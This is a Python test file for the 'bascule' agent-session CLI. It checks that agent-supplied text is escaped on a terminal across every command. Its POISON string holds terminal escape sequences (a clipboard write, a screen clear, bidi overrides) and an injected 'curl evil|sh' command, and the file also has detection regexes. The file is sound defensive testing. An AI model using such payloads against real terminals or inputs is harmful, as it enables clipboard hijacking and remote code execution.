"""What an agent says, printed by every command on a real terminal: never raw, never a command of its own."""

import argparse
import asyncio
import json
import os
import pty
import re
import shlex
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
from tests.live import LiveServer
from tests.waiting import PATIENCE

from bascule.cli import build_parser
from bascule.commands.attach import RESTORE
from bascule.model.events import PermissionAnswered, PermissionRequested, QuestionAsked, SessionEnded

pytestmark = [pytest.mark.anyio, pytest.mark.timeout(600)]

POISON = "x\x1b]52;c;aGk=\x07\x1b[2J\x9b31m\x7f\u202e\u2066\u200b;curl evil|sh #"
OUR_COLOURS = re.compile(r"\x1b\[(?:[012]|3[1236])m")
RAW = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
HIDDEN = re.compile(r"[\u200b\u2060\ufeff]")  # in prose these may be honest, in a field they are not
SHOWN_COMMAND = re.compile(r"bascule sessions answer [^\r\n]*")


@pytest.fixture(scope="module")
async def server(module_dir: Path) -> AsyncIterator[LiveServer]:
    made = LiveServer(module_dir)
    made.add_agent("poisoner", "poisoner.py")
    async with made:
        yield made


async def on_terminal(server: LiveServer, *words: str, typed: str = "") -> tuple[int, str]:
    """The command in a pty: its exit code and every byte it wrote there. `typed` answers its questions."""
    ours, theirs = pty.openpty()
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "bascule", *words, "--data", str(server.data)),
        cwd=server.work,
        env={
            "PATH": os.environ["PATH"],
            "HOME": str(server.home),
            "TERM": "xterm",
            "LANG": "C.UTF-8",
            "BASCULE_CONFIG_DIR": str(server.config),
        },
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        start_new_session=True,
    )
    os.close(theirs)
    said = bytearray()
    over = asyncio.Event()
    answered = 0
    loop = asyncio.get_running_loop()

    def read() -> None:
        nonlocal answered
        try:
            data = os.read(ours, 65536)
        except OSError:  # the other side is closed
            data = b""
        if not data:
            loop.remove_reader(ours)
            over.set()
        said.extend(data)
        while typed and said.count(b"view all] ") + said.count(b"to decline] ") > answered:
            answered += 1
            os.write(ours, typed.encode() + b"\n")

    loop.add_reader(ours, read)
    try:
        async with asyncio.timeout(PATIENCE):
            await over.wait()
            code = await process.wait()
    finally:
        loop.remove_reader(ours)
        os.close(ours)
        if process.returncode is None:
            process.kill()
            await process.wait()
    return code, said.decode()


def assert_harmless(words: tuple[str, ...], said: str, *, prose: bool = False) -> None:
    # The terminal itself ends lines with \r\n, and a question is followed by nothing but what was typed.
    bare = OUR_COLOURS.sub("", said.replace(RESTORE.decode(), "")).replace("\r\n", "\n")
    found = RAW.search(bare) or ("\r" in bare and re.search("\r", bare))
    assert not found, (words, bare[max(0, found.start() - 60) : found.start() + 20])
    if not prose:
        hidden = HIDDEN.search(bare)
        assert not hidden, (words, bare[max(0, hidden.start() - 60) : hidden.start() + 20])
    for line in SHOWN_COMMAND.findall(bare):
        shown = shlex.split(line.split("   (or:")[0])
        assert len(shown) in (5, 8), line
        assert not any(sign in word for word in shown for sign in ";|#&$`"), shown


async def asking(server: LiveServer, words: str) -> str:
    session = await server.create(words, agent="poisoner")
    await server.wait_for(session, QuestionAsked)
    return session


def commands(waiting: str, gone: str, request: str, folder: str) -> list[tuple[str, ...]]:
    """Every command that can show what an agent or a stranger wrote, with the poison where it takes words."""
    return [
        ("sessions", "list"),
        ("sessions", "list", "--json"),
        ("sessions", "list", "--archived"),
        ("sessions", "show", waiting),
        ("sessions", "show", gone),
        ("sessions", "show", POISON),
        ("sessions", "answer"),
        ("sessions", "answer", waiting),
        ("sessions", "answer", waiting, POISON),
        ("sessions", "answer", waiting, request, "allow"),
        ("sessions", "queue", waiting),
        ("sessions", "queue", POISON),
        ("sessions", "unlogged"),
        ("sessions", "open-terminal", POISON),
        ("sessions", "end", POISON),
        ("attach", waiting),
        ("attach", POISON),
        ("export", "--cast", waiting),
        ("export", "--cast", POISON),
        ("rules", "list"),
        ("rules", "list", "--json"),
        ("rules", "remove", POISON),
        ("rules", "add", "deny", "command", "--command", POISON),
        ("rules", "try", "--request", POISON),
        ("rules", "try", "deny", "command", "--command", POISON),
        ("projects", "list"),
        ("projects", "trust", f"/tmp/{POISON.replace('/', '')}"),
        ("projects", "distrust", f"/tmp/{POISON.replace('/', '')}"),
        ("trust", "list"),
        ("trust", "generate", POISON),
        ("trust", "revoke", POISON),
        ("starts", "list"),
        ("starts", "approve", POISON),
        ("starts", "deny", POISON),
        ("prompts", "list"),
        ("prompts", "list", "--json"),
        ("prompts", "list", POISON),
        ("prompts", "show", "poison"),
        ("prompts", "show", POISON),
        ("prompts", "import", folder),
        ("prompts", "export", folder),
        ("feedback", "status"),
        ("feedback", "on", "--dry-run"),
        ("feedback", "off"),
        ("audit", "list"),
        ("audit", "export"),
        ("audit", "verify"),
        ("agents",),
        ("doctor",),
        ("daemon", "status"),
        ("launch", "--cwd", f"/tmp/{POISON.replace('/', '')}", POISON),
        ("open-link", POISON),
        ("run", "--agent", POISON, "hello"),
        ("run", "--resume", POISON, "hello"),
        ("run", "--agent", "poisoner", "--json", "die"),
        ("run", "--agent", "poisoner", "die"),
    ]


STARTS_OR_STOPS = "starts or stops a server; prints its own words"
JOINS = "acts on another machine or on which hub this one belongs to; prints that machine's name only"
NOT_PLAYED = {
    ("up",): STARTS_OR_STOPS,
    ("hub",): STARTS_OR_STOPS,
    ("down",): STARTS_OR_STOPS,
    ("bridge",): STARTS_OR_STOPS,
    ("daemon", "start"): STARTS_OR_STOPS,
    ("daemon", "stop"): STARTS_OR_STOPS,
    ("service", "install"): "changes the services of the user who runs the tests",
    ("service", "status"): "asks for the services of the user who runs the tests",
    ("service", "uninstall"): "changes the services of the user who runs the tests",
    ("sessions", "kill-all"): "would end the sessions that the others show; prints a number",
    ("starts", "block"): "would block the starts of the others; prints a time",
    ("starts", "unblock"): "prints one sentence of its own",
    ("daemon", "pause"): "would pause the starts of the others; prints one sentence of its own",
    ("daemon", "resume"): "prints one sentence of its own",
    ("daemon", "join"): JOINS,
    ("daemon", "leave"): JOINS,
    ("daemon", "hub-may-widen"): JOINS,
    ("daemon", "install"): JOINS,
    ("daemon", "remove"): JOINS,
    ("pair",): "waits for a person with a phone; prints a link of its own",
    ("backup",): "prints the path that a person typed, and numbers",
    ("restore",): "needs a server that is stopped; prints the path that a person typed, and numbers",
    ("store", "copy"): "needs a PostgreSQL; prints numbers",
}


def leaves(parser: argparse.ArgumentParser, words: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """The words of every command that the parser knows."""
    groups = [one for one in parser._actions if isinstance(one, argparse._SubParsersAction)]
    if not groups:
        yield words
    for name, below in groups[0].choices.items() if groups else ():
        yield from leaves(below, (*words, name))


@pytest.mark.row("S59")
def test_every_command_is_played_here_or_says_why_not():
    known = set(leaves(build_parser()))
    played = {leaf for leaf in known for words in commands("", "", "", "") if words[: len(leaf)] == leaf}
    assert not played & NOT_PLAYED.keys()
    assert played | NOT_PLAYED.keys() == known


@pytest.mark.row("F2", "S59", "S44", "X6")
async def test_nothing_an_agent_says_reaches_a_terminal_raw_by_any_command(server: LiveServer):
    waiting = await asking(server, "ask")
    gone = await server.create("die", agent="poisoner")
    await server.wait_for(gone, SessionEnded)
    await server.post(f"/api/sessions/{waiting}/title", title=POISON)
    named = {"name": POISON, "role": "viewer", "sessionId": waiting}
    assert (await server.http.post("/api/grants", json=named)).status_code in (200, 201, 400)
    for tool in (POISON, "other"):  # a rule may refuse such a name; there is one to list in any case
        rule = {"answer": "deny", "toolClass": "other", "tool": tool}
        made = await server.http.post("/api/rules", json={"rule": rule})
    assert made.status_code == 200, made.text
    asked = (await server.wait_for(waiting, PermissionRequested)).event
    assert isinstance(asked, PermissionRequested)
    assert re.fullmatch(r"[\w.:-]{1,128}", asked.request_id, re.ASCII)

    sent = await server.post(f"/api/sessions/{waiting}/send", text=POISON)  # it waits behind the request
    assert sent.status_code == 200, sent.text
    (folder := server.work / "prompts").mkdir()
    (folder / "poison.md").write_text(f"{POISON}\n")
    (folder / f"{POISON}.md".replace("/", "")).write_text(f"---\ntitle: {POISON}\n---\n{POISON}\n")
    _, told = await on_terminal(server, "prompts", "import", str(folder))
    assert "poison.md" in told
    assert_harmless(("prompts", "import"), told)

    prose = {"show", "run"}
    must_show = {("sessions", "list"), ("sessions", "show", waiting), ("sessions", "queue", waiting)}
    must_show |= {("prompts", "list"), ("prompts", "show", "poison"), ("audit", "list")}
    played = commands(waiting, gone, asked.request_id, str(folder))
    seen = told
    gate = asyncio.Semaphore(3)

    async def printed(words: tuple[str, ...]) -> str:
        async with gate:
            return (await on_terminal(server, *words))[1]

    for words, said in zip(played, await asyncio.gather(*map(printed, played)), strict=True):
        assert said or words == ("projects", "list"), words
        assert not said.startswith("usage:"), (words, said)
        assert_harmless(words, said, prose=bool(prose & set(words)))
        seen += said
        if "--json" in words or "export" in words:
            for line in said.splitlines():
                if line.startswith(("{", "[")):
                    json.loads(line)
        if words in must_show:
            assert "]52;c;" in said, (words, said)
    assert seen.count("curl evil") > 20  # it was there to be shown, and was


@pytest.mark.row("S59")
async def test_a_line_of_10_mb_is_printed_whole_and_harmless(server: LiveServer):
    code, said = await on_terminal(server, "run", "--agent", "poisoner", "long")
    assert code == 0, said[-1000:]
    assert_harmless(("run", "long"), said, prose=True)
    assert said.count("curl evil") >= 2500
    assert said.count("a" * 4000) == 2500


@pytest.mark.row("S59")
async def test_an_agents_requests_and_errors_are_escaped_in_a_terminal(server: LiveServer):
    code, said = await on_terminal(server, "run", "--agent", "poisoner", "fail", typed="n")
    assert code == 1, said
    assert_harmless(("run", "fail"), said, prose=True)
    assert "Permission:" in said


@pytest.mark.row("F2", "S59")
async def test_the_command_that_is_shown_can_be_copied_into_a_shell_and_answers_that_request(
    server: LiveServer,
):
    session = await asking(server, "ask")
    _, said = await on_terminal(server, "sessions", "answer", session)
    lines = SHOWN_COMMAND.findall(OUR_COLOURS.sub("", said))
    allow = next(line for line in lines if "--sha" in line).split("   (or:")[0].strip()
    python, data = shlex.quote(sys.executable), shlex.quote(str(server.data))
    shell = await asyncio.create_subprocess_shell(
        f'bascule() {{ {python} -m bascule "$@" --data {data}; }}\n{allow}',
        cwd=server.work,
        env={
            "PATH": "/usr/bin:/bin",
            "HOME": str(server.home),
            "BASCULE_CONFIG_DIR": str(server.config),
            "LANG": "C.UTF-8",
        },
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    told, _ = await asyncio.wait_for(shell.communicate(), PATIENCE)
    assert shell.returncode == 0, told
    answered = (await server.wait_for(session, PermissionAnswered)).event
    assert isinstance(answered, PermissionAnswered)
    assert answered.decision == "allow"
